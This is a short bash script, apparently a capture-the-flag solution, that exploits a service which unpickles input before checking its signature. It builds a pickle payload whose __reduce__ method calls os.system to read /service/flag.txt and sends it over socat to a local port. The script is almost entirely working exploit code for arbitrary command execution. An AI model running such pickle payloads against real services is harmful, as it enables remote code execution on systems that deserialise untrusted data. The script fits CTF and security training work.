#!/bin/bash
# pickle.loads runs before the signature check: a __reduce__ payload runs our command in the
# service, whose stdout is our connection.
set -euo pipefail
token=$(python3 -c '
import base64, os, pickle
class Payload:
    def __reduce__(self):
        return (os.system, ("cat /service/flag.txt",))
print(base64.b64encode(pickle.dumps(Payload())).decode() + ".00")
')
printf '%s\n' "$token" | socat -t5 - TCP:127.0.0.1:1337
